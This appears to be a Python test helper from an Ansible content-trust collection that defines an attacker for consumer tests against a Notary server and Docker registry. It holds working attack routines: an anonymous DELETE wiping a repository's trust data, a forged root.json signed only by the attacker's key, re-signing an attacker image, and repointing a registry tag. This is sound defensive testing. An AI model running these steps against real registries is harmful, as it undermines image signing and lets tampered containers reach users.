# -*- coding: utf-8 -*-
"""An attacker for the consumer tests: reaches the registry and writes to the Notary server, holds none of our keys.

What it does is what anyone with network access to an unauthenticated Notary (or control of the server) can:

- ``wipe(gun)``: an anonymous ``DELETE /v2/<gun>/_trust/tuf/``, which removes the repository's trust data;
- ``recreate(gun, ...)``: initialize the repository again with the attacker's own root, repository key and a
  signer key under a name of its choosing (``jeff``), over an image of its own, with the collection's modules run
  from the attacker's own docker configuration;
- ``root_listing(gun, pinned_key)``: publish a new root that lists the attacker's root certificate AND the
  pinned (public) certificate of the real root, threshold 1, signed by the attacker's root key alone;
- ``move_tag``: point a registry tag at another digest.

The root is written and signed here (canonical JSON, ECDSA P-256, r||s), as notary itself signs metadata, and
uploaded as the notary client uploads it (a multipart POST).  ``check_signature`` verifies a real root.json the
same way first, so a mistake in that encoding fails loudly instead of making the attack look refused.
"""

import base64
import datetime
import hashlib
import json
import os
import ssl
import subprocess
import urllib.request
import uuid

from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography import x509

from ansible_collections.openbanking.content_trust.plugins.module_utils._keystore import (

    list_local_keys, read_local_key,

)

from conftest import common, install_publisher_certificate, run_module

ATTACKER_PASS = 'attacker-Passphrase-9'


def canonical(obj):
    return json.dumps(obj, sort_keys=True, separators=(',', ':'), ensure_ascii=False).encode('utf-8')


def wire(doc):
    """A signed document as notary marshals it (the server hashes this form for the snapshot it generates): the
    canonical ``signed`` first, then the signatures with their fields in notary's order."""
    sigs = ','.join('{"keyid":%s,"method":%s,"sig":%s}' % (json.dumps(s['keyid']), json.dumps(s['method']),
                                                           json.dumps(s['sig'])) for s in doc['signatures'])
    return b'{"signed":' + canonical(doc['signed']) + b',"signatures":[' + sigs.encode() + b']}'


def key_id(key):
    return hashlib.sha256(canonical(key)).hexdigest()


def check_signature(root_doc):
    """True when one signature of ``root_doc`` verifies with the certificate its keyid names (as notary checks)."""
    message = canonical(root_doc['signed'])
    keys = root_doc['signed']['keys']
    for sig in root_doc['signatures']:
        key = keys.get(sig['keyid'])
        if not key or key['keytype'] != 'ecdsa-x509':
            continue
        cert = x509.load_pem_x509_certificate(base64.b64decode(key['keyval']['public']))
        raw = base64.b64decode(sig['sig'])
        half = len(raw) // 2
        der = encode_dss_signature(int.from_bytes(raw[:half], 'big'), int.from_bytes(raw[half:], 'big'))
        try:
            cert.public_key().verify(der, message, ec.ECDSA(hashes.SHA256()))
            return True
        except InvalidSignature:
            continue
    return False


class Attacker(object):
    """The stack's Notary refuses anonymous writes (the notary_server role's mtls front), so this attacker holds a
    publisher's client certificate - any publisher's, since the certificate authenticates and does not authorize - or,
    what comes to the same, runs the Notary server.  It holds none of the repositories' keys."""

    def __init__(self, stack, directory):
        self.stack = stack
        self.config = os.path.join(directory, 'attacker-docker')
        os.makedirs(self.config, mode=0o700, exist_ok=True)
        install_publisher_certificate(self.config)
        self.ctx = ssl.create_default_context(cafile=stack.ca)
        if stack.client_cert and stack.client_key:
            self.ctx.load_cert_chain(stack.client_cert, stack.client_key)

    def _request(self, method, path, body=None, headers=None):
        req = urllib.request.Request(self.stack.notary_url + path, data=body, method=method, headers=headers or {})
        try:
            with urllib.request.urlopen(req, context=self.ctx, timeout=30) as resp:
                return resp.status, resp.read()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read()

    def wipe(self, gun):
        """Anonymous DELETE of the repository's trust data; returns the HTTP status."""
        return self._request('DELETE', '/v2/%s/_trust/tuf/' % gun)[0]

    def upload(self, gun, documents):
        """POST ``{role: metadata}`` as the notary client does; returns (status, body)."""
        boundary = uuid.uuid4().hex
        parts = []
        for role, doc in documents.items():
            parts.append(('--%s\r\nContent-Disposition: form-data; name="files"; filename="%s"\r\n'
                          'Content-Type: application/octet-stream\r\n\r\n' % (boundary, role)).encode()
                         + wire(doc) + b'\r\n')
        body = b''.join(parts) + ('--%s--\r\n' % boundary).encode()
        return self._request('POST', '/v2/%s/_trust/tuf/' % gun, body,
                             {'Content-Type': 'multipart/form-data; boundary=%s' % boundary})

    def recreate(self, repo, tag, content='attacker payload', signer='jeff'):
        """The repository initialized again with the attacker's keys: ``signer`` (a name it picks) signs an image of
        the attacker's at ``repo:tag``.  Returns the attacker's signed digest."""
        stack, config = self.stack, self.config
        key = run_module('trust_key', common(stack, config, docker_cli=stack.reference_cli, signer=signer,
                                             passphrase=ATTACKER_PASS), secrets=[])
        assert not key.failed, key
        res = run_module('trust_signer', common(stack, config, docker_cli=stack.reference_cli, repository=repo,
                                                signer=signer, public_keys=[key['public_key']],
                                                root_passphrase=ATTACKER_PASS, repository_passphrase=ATTACKER_PASS),
                         secrets=[])
        assert not res.failed, res
        stack.build_image(config, '%s:%s' % (repo, tag), content=content)
        res = run_module('trust_push', common(stack, config, docker_cli=stack.reference_cli, repository=repo, tags=[tag],
                                              signer=signer, signer_passphrase=ATTACKER_PASS), secrets=[])
        assert not res.failed, res
        return res['results'][0]['digest']

    def _root_key(self):
        roots = [k for k in list_local_keys(os.path.join(self.config, 'trust')) if k['role'] == 'root']
        assert len(roots) == 1, roots
        return read_local_key(roots[0]['path'], ATTACKER_PASS, 'attacker root key')

    def root_listing(self, gun, pinned_key):
        """Publish a new root: the attacker's current root plus ``pinned_key`` (the real root's public certificate
        key, as root.json lists it) in the root role, threshold 1, signed by the attacker's root key only.
        Returns the server's answer (status, body) and the root uploaded."""
        current = self.stack.tuf(gun, 'root')
        assert current and check_signature(current), 'the encoding of signatures here does not match notary\'s'
        signed = json.loads(json.dumps(current['signed']))
        pinned_id = key_id(pinned_key)
        signed['keys'][pinned_id] = pinned_key
        signed['roles']['root']['keyids'] = sorted(set(signed['roles']['root']['keyids'] + [pinned_id]))
        signed['roles']['root']['threshold'] = 1
        signed['version'] += 1
        expires = datetime.datetime.utcnow() + datetime.timedelta(days=365)
        signed['expires'] = expires.strftime('%Y-%m-%dT%H:%M:%SZ')  # as Go marshals a time without fraction
        attacker_ids = list(current['signed']['roles']['root']['keyids'])
        key = self._root_key()
        der = key.sign(canonical(signed), ec.ECDSA(hashes.SHA256()))
        r, s = decode_dss_signature(der)
        sig = base64.b64encode(r.to_bytes(32, 'big') + s.to_bytes(32, 'big')).decode()
        doc = {'signed': signed, 'signatures': [{'keyid': k, 'method': 'ecdsa', 'sig': sig} for k in attacker_ids]}
        assert check_signature(doc)
        return self.upload(gun, {'root': doc}), doc

    def move_tag(self, config, repo, tag, to_ref):
        """Point ``repo:tag`` in the registry at the image ``to_ref`` (as anyone who can push does)."""
        self.stack.docker(config, 'pull', to_ref)
        self.stack.docker(config, 'tag', to_ref, '%s:%s' % (repo, tag))
        env = self.stack.cli_env(config)
        env.pop('DOCKER_CONTENT_TRUST', None)
        subprocess.run([self.stack.reference_cli, 'push', '%s:%s' % (repo, tag)], env=env, check=True,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
